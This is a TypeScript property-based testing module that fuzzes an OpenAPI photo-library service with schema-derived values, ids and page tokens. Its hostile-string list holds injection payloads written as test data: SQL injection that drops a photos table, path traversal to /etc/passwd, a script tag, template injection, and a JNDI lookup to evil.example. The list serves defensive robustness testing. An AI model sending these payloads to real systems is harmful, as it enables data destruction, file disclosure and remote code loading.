import fc, { type Arbitrary } from "fast-check";
import type { Operation, Schema } from "./openapi.ts";
import { idPlaceholder, type Resource, resources, tokenPlaceholder } from "./placeholders.ts";

type Resolve = (schema: Schema) => Schema;

// Deeper than any documented body.
const maxDepth = 6;
const hostileStrings = [
  "",
  " ",
  "\0",
  "a\0b",
  "\ud800",
  "\u202egpj.exe",
  "\u0007\u001b[31m",
  "'; DROP TABLE library.photos; --",
  "' OR 1=1 --",
  "../../../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  "%00",
  "%ff%fe",
  "<script>alert(1)</script>",
  "{{7*7}}",
  `${"$"}{jndi:ldap://evil.example/a}`,
  "NaN",
  "Infinity",
  "1e999",
  "-1",
  "0x10",
  "99999999999999999999",
  "null",
  "true",
  "__proto__",
  "constructor",
  "0000-00-00",
  "2024-02-30T00:00:00Z",
  "+275760-09-13T00:00:00Z",
  "-000001-01-01T00:00:00Z",
  "9999-12-31T23:59:59.999999999Z",
  "2024-01-01T00:00:00+99:99",
  "01890000-0000-7000-8000-00000000000G",
  "01890000-0000-7000-8000-000000000000",
  "e30",
  "bnVsbA",
  "🦉".repeat(50),
  "a".repeat(3000),
] as const;

/** Text that somebody with bad intentions, or a broken program, may send. */
export const hostileText: Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...hostileStrings) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 200 }) },
);

/** Any JSON, with a liking for what breaks programs. */
export const hostileValue: Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileText },
  {
    weight: 2,
    arbitrary: fc.constantFrom<unknown>(
      null,
      true,
      false,
      0,
      -1,
      1.5,
      -0.0001,
      2 ** 31,
      2 ** 53,
      -(2 ** 63),
      1e308,
      5e-324,
      [],
      {},
      [[]],
      [null],
      { a: {} },
    ),
  },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.array(hostileText, { minLength: 2, maxLength: 300 }) },
);

/** Ids: the caller's own, somebody else's, nobody's, and what is none. */
export function ids(resource: Resource): Arbitrary<string> {
  return fc.oneof(
    { weight: 4, arbitrary: fc.constant(idPlaceholder("own", resource)) },
    { weight: 3, arbitrary: fc.constant(idPlaceholder("foreign", resource)) },
    { weight: 1, arbitrary: fc.constantFrom(...resources.map((each) => idPlaceholder("own", each))) },
    { weight: 1, arbitrary: fc.uuid() },
    { weight: 1, arbitrary: hostileText.filter((text) => text !== "") },
  );
}

/** Tokens of pages: good ones of any list and user, cut, with a flipped bit, and what is none. */
export const pageTokens: Arbitrary<string> = fc.oneof(
  fc.nat(20).map((index) => tokenPlaceholder(index)),
  fc
    .tuple(fc.nat(20), fc.constantFrom("cut" as const, "flip" as const), fc.nat(400))
    .map(([index, kind, at]) => tokenPlaceholder(index, { kind, at })),
  hostileText,
);

/** The resource that an id in some place names, from the word before it. */
export function resourceOf({ path }: Pick<Operation, "path">, name: string): Resource {
  const words: Readonly<Record<string, Resource>> = {
    userId: "users",
    personId: "people",
    albumId: "albums",
    photoId: "photos",
    photoIds: "photos",
    faceIds: "faces",
    personIds: "people",
    parentId: "albums",
    coverPhotoId: "photos",
    coverFaceId: "faces",
    otherId: "people",
  };
  const before = new RegExp(`([a-z-]+)/\\{${name}\\}`).exec(path)?.[1];
  return (
    words[name] ??
    resources.find((each) => each === before) ??
    resources.find((each) => path.includes(`/${each}`)) ??
    "photos"
  );
}

/** Values that a schema allows; `name` is that of the field, for ids. */
export function valuesOf(
  schema: Schema,
  resolve: Resolve,
  operation: Operation,
  name = "",
  depth = 0,
): Arbitrary<unknown> {
  const of = resolve(schema);
  if (depth > maxDepth) return fc.constant(null);
  const inner = (each: Schema, field = name) => valuesOf(each, resolve, operation, field, depth + 1);
  if (Array.isArray(of.enum)) return fc.constantFrom<unknown>(...of.enum);
  if ("const" in of) return fc.constant(of.const);
  for (const key of ["anyOf", "oneOf"] as const) {
    const choices = of[key];
    if (Array.isArray(choices)) return fc.oneof(...choices.map((each: Schema) => inner(each)));
  }
  if (Array.isArray(of.allOf))
    return inner(
      Object.assign({}, ...of.allOf.map((each: Schema) => resolve(each)), { type: of.type ?? undefined }),
    );
  const types = Array.isArray(of.type) ? of.type : [of.type];
  return fc.oneof(...types.map((type) => ofType(String(type), of, operation, name, inner)));
}

function ofType(
  type: string,
  schema: Schema,
  operation: Operation,
  name: string,
  inner: (each: Schema, field?: string) => Arbitrary<unknown>,
): Arbitrary<unknown> {
  const number = (key: string, otherwise: number) =>
    typeof schema[key] === "number" ? schema[key] : otherwise;
  switch (type) {
    case "string":
      return texts(schema, operation, name, number("minLength", 0), Math.min(number("maxLength", 60), 60));
    case "integer":
      return fc.oneof(
        fc.integer({ min: number("minimum", 0), max: number("maximum", 200) }),
        fc.constantFrom(number("minimum", 0), number("maximum", 200)),
      );
    case "number":
      return fc.double({ min: number("minimum", 0), max: number("maximum", 1), noNaN: true });
    case "boolean":
      return fc.boolean();
    case "array":
      return fc.array(inner(asSchema(schema.items)), {
        minLength: number("minItems", 0),
        maxLength: Math.min(number("maxItems", 4), 4),
      });
    case "object":
      return objects(schema, inner);
    case "null":
      return fc.constant(null);
    default:
      return hostileValue;
  }
}

function objects(
  schema: Schema,
  inner: (each: Schema, field?: string) => Arbitrary<unknown>,
): Arbitrary<unknown> {
  const properties = Object.entries(asSchema(schema.properties));
  const required = new Set(Array.isArray(schema.required) ? schema.required : []);
  const fields = Object.fromEntries(properties.map(([name, each]) => [name, inner(asSchema(each), name)]));
  return fc.record(fields, {
    requiredKeys: properties.map(([name]) => name).filter((name) => required.has(name)),
  });
}

function texts(
  schema: Schema,
  operation: Operation,
  name: string,
  minLength: number,
  maxLength: number,
): Arbitrary<string> {
  if (/token/i.test(name) && operation.method === "GET") return pageTokens;
  if (schema.format === "uuid" || /^(id|.*Ids?)$/.test(name)) return ids(resourceOf(operation, name));
  if (schema.format === "date-time") {
    return fc
      .date({ min: new Date(0), max: new Date("2100-01-01"), noInvalidDate: true })
      .map((date) => date.toISOString());
  }
  if (schema.format === "date")
    return fc.integer({ min: 1, max: 28 }).map((day) => `2001-02-${String(day).padStart(2, "0")}`);
  if (typeof schema.pattern === "string") {
    // A generator reads no assertions: those patterns come with an example.
    if (!/\(\?[!=<]/.test(schema.pattern))
      return fc.stringMatching(new RegExp(schema.pattern), { size: "small" });
    return fc.constant(String(schema.example ?? "/"));
  }
  const examples = typeof schema.example === "string" ? [fc.constant(schema.example)] : [];
  return fc.oneof(...examples, fc.string({ unit: "grapheme", minLength, maxLength }));
}

function asSchema(value: unknown): Schema {
  return typeof value === "object" && value !== null ? { ...value } : {};
}
